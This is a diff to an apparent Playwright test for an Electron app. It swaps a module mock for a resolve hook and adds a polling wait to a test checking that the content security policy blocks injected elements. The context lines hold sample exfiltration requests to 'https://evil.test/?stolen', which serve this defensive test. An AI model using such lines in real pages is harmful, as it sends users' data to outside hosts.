@@ -1,4 +1,5 @@
 import { existsSync } from 'node:fs'
+import { registerHooks } from 'node:module'
 import path from 'node:path'
 import { pathToFileURL } from 'node:url'
 import type { Page } from 'playwright'
@@ -7,7 +8,14 @@ import { DESKTOP_BRIDGE } from '../../core/contract/desktop.ts'
 import type { DesktopBridge } from '../../core/contract/desktop.ts'
 import * as harness from '../harness/electron-chromium.ts'
 
-vi.mock('electron', () => import('../harness/electron-chromium.ts'))
+// The built application gets Chromium where it imports Electron.
+registerHooks({
+  resolve: (specifier, context, next) =>
+    next(
+      specifier === 'electron' ? new URL('../harness/electron-chromium.ts', import.meta.url).href : specifier,
+      context,
+    ),
+})
 
 declare global {
   interface Window {
@@ -114,7 +122,10 @@ test('the policy holds against what a page could be tricked into', async () => {
     image.src = 'https://evil.test/?stolen'
     document.body.append(script, style, frame, image)
     await fetch('https://evil.test/').catch(() => undefined)
-    await new Promise((resolve) => void setTimeout(resolve, 200))
+    // The browser reports the frame once it would load it, which takes longer on a busy machine.
+    for (let waits = 0; waits === 0 || (waits < 100 && directives.length < 5); waits++) {
+      await new Promise((resolve) => void setTimeout(resolve, 200))
+    }
     for (const element of [script, style, frame, image]) element.remove()
     return { directives: directives.toSorted(), injected: 'injected' in window }
   })
